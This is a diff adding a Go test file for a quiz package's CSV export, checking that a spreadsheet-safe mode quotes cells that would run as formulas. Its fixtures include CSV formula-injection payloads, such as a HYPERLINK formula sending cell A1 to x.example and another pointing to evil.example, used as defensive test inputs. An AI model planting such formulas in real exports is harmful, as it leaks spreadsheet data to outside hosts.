@@ -1,0 +1,214 @@
+package kuis_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"log"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/kuisboard/kuis"
+)
+
+// hostileRecap is a finished quiz whose students typed names a spreadsheet
+// would run, split or misread.
+func hostileRecap() kuis.Recap {
+	at := time.Date(2026, 11, 30, 9, 15, 2, 125e6, time.UTC)
+	names := []string{`=HYPERLINK("http://x.example/?"&A1,"Ali")`, "+62 812", "-Budi-", "@Citra", "\tTab", "\rCR", "Søren", "a;=1+2", `Siti, A.`, "Dewi"}
+	r := kuis.Recap{QuizID: "kuis-01", Info: kuis.Info{Title: "Kuis", Questions: 2, Status: kuis.StatusFinished}}
+	r.Questions = []kuis.QuestionResult{{Question: 1, Correct: len(names)}, {Question: 2, Correct: 0}}
+	for i, n := range names {
+		r.Standings = append(r.Standings, kuis.Standing{Rank: i + 1, CompetitionRank: 1, Participant: n, Score: 10})
+		r.Answers = append(r.Answers, kuis.AnswerRecord{Participant: n, Question: 1, At: at})
+	}
+	r.Answers[len(names)-1].At = time.Time{} // an answer from before the log
+	return r
+}
+
+// csvWriters are the recap's three CSV csvWriters, by the file the archive names
+// after them.
+var csvWriters = []struct {
+	name  string
+	write func(kuis.Recap, *bytes.Buffer, ...kuis.CSVOption) error
+}{
+	{"standings", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error { return r.WriteCSV(b, o...) }},
+	{"gradebook", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error { return r.WriteGradebookCSV(b, o...) }},
+	{"answers", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error { return r.WriteAnswersCSV(b, o...) }},
+}
+
+// TestCSVDefaultBytes pins the default form byte for byte: encoding/csv's,
+// names as stored, whatever a spreadsheet would make of them, so that an
+// archive reads back exactly.
+func TestCSVDefaultBytes(t *testing.T) {
+	rows := []string{
+		`"=HYPERLINK(""http://x.example/?""&A1,""Ali"")"`, "+62 812", "-Budi-", "@Citra", "\"\tTab\"", "\"\rCR\"", "Søren", "a;=1+2", `"Siti, A."`, "Dewi",
+	}
+	var standings, gradebook, answers strings.Builder
+	standings.WriteString("rank,competition_rank,participant,score,correct_answers\n")
+	gradebook.WriteString("participant,score,1,2\n")
+	answers.WriteString("participant,question,answered_at\n")
+	for i, n := range rows {
+		fmt.Fprintf(&standings, "%d,1,%s,10,1\n", i+1, n)
+		fmt.Fprintf(&gradebook, "%s,10,1,0\n", n)
+		at := "2026-11-30T09:15:02.125Z"
+		if i == len(rows)-1 {
+			at = ""
+		}
+		fmt.Fprintf(&answers, "%s,1,%s\n", n, at)
+	}
+	want := map[string]string{"standings": standings.String(), "gradebook": gradebook.String(), "answers": answers.String()}
+	for _, w := range csvWriters {
+		for _, opts := range [][]kuis.CSVOption{nil, {nil}} { // a nil option is no option
+			var buf bytes.Buffer
+			if err := w.write(hostileRecap(), &buf, opts...); err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(want[w.name], buf.String()); diff != "" {
+				t.Errorf("%s, options %v: default form (-want +got):\n%s", w.name, opts, diff)
+			}
+		}
+	}
+}
+
+// TestCSVForSpreadsheet: a BOM, every cell quoted, CRLF, and a single quote
+// before each cell a spreadsheet would run as a formula, and before no other;
+// encoding/csv reads the file back to the default form's cells, those with a
+// quote added aside.
+func TestCSVForSpreadsheet(t *testing.T) {
+	r := hostileRecap()
+	var buf bytes.Buffer
+	if err := r.WriteCSV(&buf, kuis.ForSpreadsheet()); err != nil {
+		t.Fatal(err)
+	}
+	want := "\uFEFF" + `"rank","competition_rank","participant","score","correct_answers"` + "\r\n" +
+		`"1","1","'=HYPERLINK(""http://x.example/?""&A1,""Ali"")","10","1"` + "\r\n" +
+		`"2","1","'+62 812","10","1"` + "\r\n" +
+		`"3","1","'-Budi-","10","1"` + "\r\n" +
+		`"4","1","'@Citra","10","1"` + "\r\n" +
+		`"5","1","'` + "\tTab" + `","10","1"` + "\r\n" +
+		`"6","1","'` + "\rCR" + `","10","1"` + "\r\n" +
+		`"7","1","Søren","10","1"` + "\r\n" +
+		`"8","1","a;=1+2","10","1"` + "\r\n" +
+		`"9","1","Siti, A.","10","1"` + "\r\n" +
+		`"10","1","Dewi","10","1"` + "\r\n"
+	if diff := cmp.Diff(want, buf.String()); diff != "" {
+		t.Errorf("WriteCSV(ForSpreadsheet) (-want +got):\n%s", diff)
+	}
+
+	for _, w := range csvWriters {
+		var plain, sheet bytes.Buffer
+		if err := w.write(r, &plain); err != nil {
+			t.Fatal(err)
+		}
+		if err := w.write(r, &sheet, kuis.ForSpreadsheet()); err != nil {
+			t.Fatal(err)
+		}
+		body, ok := strings.CutPrefix(sheet.String(), "\uFEFF")
+		if !ok {
+			t.Errorf("%s: spreadsheet form does not start with a UTF-8 BOM: %q", w.name, sheet.String())
+		}
+		wantRows, err := csv.NewReader(&plain).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range wantRows {
+			for i, cell := range row {
+				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+					row[i] = "'" + cell
+				}
+			}
+		}
+		gotRows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: reading the spreadsheet form back: %v", w.name, err)
+		}
+		// encoding/csv reads a quoted CR before LF as it is, but turns
+		// "\r\n" inside a quoted field into "\n"; no cell here has one.
+		if diff := cmp.Diff(wantRows, gotRows); diff != "" {
+			t.Errorf("%s: spreadsheet form read back (-want +got):\n%s", w.name, diff)
+		}
+	}
+}
+
+// failingWriter fails every write after the first n bytes.
+type failingWriter struct{ n int }
+
+var errDiskFull = errors.New("disk full")
+
+func (f *failingWriter) Write(p []byte) (int, error) {
+	if len(p) > f.n {
+		k := f.n
+		f.n = 0
+		return k, errDiskFull
+	}
+	f.n -= len(p)
+	return len(p), nil
+}
+
+// TestCSVWriterErrors: each writer, in each form, returns the writer's error
+// as it is, wherever the writer fails.
+func TestCSVWriterErrors(t *testing.T) {
+	r := hostileRecap()
+	for _, w := range csvWriters {
+		for _, opts := range [][]kuis.CSVOption{nil, {kuis.ForSpreadsheet()}} {
+			for _, n := range []int{0, 1, 100} {
+				var got error
+				fw := &failingWriter{n: n}
+				switch w.name {
+				case "standings":
+					got = r.WriteCSV(fw, opts...)
+				case "gradebook":
+					got = r.WriteGradebookCSV(fw, opts...)
+				case "answers":
+					got = r.WriteAnswersCSV(fw, opts...)
+				}
+				if !errors.Is(got, errDiskFull) {
+					t.Errorf("%s, %d options, failing after %d bytes: %v, want %v", w.name, len(opts), n, got, errDiskFull)
+				}
+			}
+		}
+	}
+}
+
+// ForSpreadsheet makes a gradebook a spreadsheet opens safely: UTF-8 names
+// shown as typed, and a name that would run as a formula kept as text.
+func ExampleForSpreadsheet() {
+	recap := kuis.Recap{
+		QuizID:    "kuis-01",
+		Questions: []kuis.QuestionResult{{Question: 1, Correct: 2}, {Question: 2, Correct: 1}},
+		Standings: []kuis.Standing{
+			{Rank: 1, CompetitionRank: 1, Participant: "Søren", Score: 20},
+			{Rank: 2, CompetitionRank: 2, Participant: `=HYPERLINK("http://evil.example","Ali")`, Score: 10},
+		},
+		Answers: []kuis.AnswerRecord{
+			{Participant: "Søren", Question: 1}, {Participant: "Søren", Question: 2},
+			{Participant: `=HYPERLINK("http://evil.example","Ali")`, Question: 1},
+		},
+	}
+	var buf bytes.Buffer
+	if err := recap.WriteGradebookCSV(&buf, kuis.ForSpreadsheet()); err != nil {
+		log.Fatal(err)
+	}
+	file, bom := strings.CutPrefix(buf.String(), "\uFEFF")
+	fmt.Println("starts with a UTF-8 BOM:", bom)
+	fmt.Print(strings.ReplaceAll(file, "\r\n", "\n"))
+
+	fmt.Println("the default form, to archive:")
+	if err := recap.WriteGradebookCSV(os.Stdout); err != nil {
+		log.Fatal(err)
+	}
+	// Output:
+	// starts with a UTF-8 BOM: true
+	// "participant","score","1","2"
+	// "Søren","20","1","1"
+	// "'=HYPERLINK(""http://evil.example"",""Ali"")","10","1","0"
+	// the default form, to archive:
+	// participant,score,1,2
+	// Søren,20,1,1
+	// "=HYPERLINK(""http://evil.example"",""Ali"")",10,1,0
+}
